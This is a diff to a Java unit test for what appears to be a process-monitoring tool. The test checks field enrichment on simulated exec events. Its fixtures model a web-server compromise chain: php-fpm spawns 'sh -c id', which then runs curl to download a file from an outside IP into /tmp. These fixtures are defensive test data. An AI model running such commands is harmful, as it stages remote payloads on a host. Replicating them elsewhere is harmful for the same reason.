@@ -13,9 +13,19 @@ import org.junit.jupiter.api.Test;
 class EnrichedEventTest {
     private static final Path NO_PROC = Path.of("/nonexistent-proc");
 
-    private static EnrichedEvent event() {
-        return new EnrichedEvent(new ProcessTable(64, NO_PROC), new UserNames(Path.of("/nonexistent-passwd")),
-                new ContainerIds(NO_PROC), new BootClock());
+    private final ProcessTable table = new ProcessTable(64, NO_PROC);
+
+    private EnrichedEvent event() {
+        return new EnrichedEvent(table, new UserNames(Path.of("/nonexistent-passwd")), new ContainerIds(NO_PROC),
+                new BootClock());
+    }
+
+    /** Decodes, then records a kept exec as the pipeline's process stage does. */
+    private void wrap(EnrichedEvent ev, java.lang.foreign.MemorySegment record) {
+        assertTrue(ev.wrap(record, 0));
+        if (ev.type() == io.spawnwatch.event.EventType.EXEC) {
+            table.recordExec(ev.exec());
+        }
     }
 
     @Test
@@ -35,10 +45,10 @@ class EnrichedEventTest {
     @Test
     void shouldWorkEachFieldOutOncePerEventAndAgainForTheNext() {
         EnrichedEvent ev = event();
-        ev.wrap(TestRecords.exec(4000, 1, "php-fpm8.2", "systemd", "/usr/sbin/php-fpm8.2", "/", "/sbin/init", 33,
-                0, 0, "php-fpm: pool www"), 0);
-        ev.wrap(TestRecords.exec(4242, 4000, "sh", "php-fpm8.2", "/usr/bin/dash", "/var/www", "/usr/sbin/php-fpm8.2",
-                33, 4000, 1, "sh", "-c", "id"), 0);
+        wrap(ev, TestRecords.exec(4000, 1, "php-fpm8.2", "systemd", "/usr/sbin/php-fpm8.2", "/", "/sbin/init", 33,
+                0, 0, "php-fpm: pool www"));
+        wrap(ev, TestRecords.exec(4242, 4000, "sh", "php-fpm8.2", "/usr/bin/dash", "/var/www", "/usr/sbin/php-fpm8.2",
+                33, 4000, 1, "sh", "-c", "id"));
         CharSequence image = ev.text(Field.IMAGE);
         assertSame(image, ev.text(Field.IMAGE));
         assertEquals("/usr/bin/dash", image.toString());
@@ -46,8 +56,8 @@ class EnrichedEventTest {
         assertEquals("php-fpm: pool www", ev.text(Field.PARENT_COMMAND_LINE).toString());
         assertEquals("33", ev.text(Field.USER).toString());
 
-        ev.wrap(TestRecords.exec(4243, 4242, "curl", "sh", "/usr/bin/curl", "/var/www", "/usr/bin/dash", 33, 4000, 2,
-                "curl", "-so", "/tmp/x", "http://203.0.113.5/x"), 0);
+        wrap(ev, TestRecords.exec(4243, 4242, "curl", "sh", "/usr/bin/curl", "/var/www", "/usr/bin/dash", 33, 4000, 2,
+                "curl", "-so", "/tmp/x", "http://203.0.113.5/x"));
         assertEquals("/usr/bin/curl", ev.text(Field.IMAGE).toString());
         assertEquals("sh -c id", ev.text(Field.PARENT_COMMAND_LINE).toString());
         assertEquals("curl", ev.text(Field.PROCESS_NAME).toString());
